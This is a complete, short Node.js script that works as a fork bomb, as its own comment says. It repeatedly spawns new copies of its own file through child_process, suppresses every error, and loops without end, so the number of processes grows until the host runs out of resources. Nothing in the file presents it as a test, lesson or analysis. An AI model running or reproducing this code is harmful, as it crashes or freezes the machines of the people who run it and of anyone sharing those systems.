// Starts copies of itself for ever.
const { spawn } = require("child_process");
function more() {
  try {
    spawn(process.execPath, [__filename], { stdio: "ignore" }).on("error", () => {});
  } catch (error) {}
  setImmediate(more);
}
more();
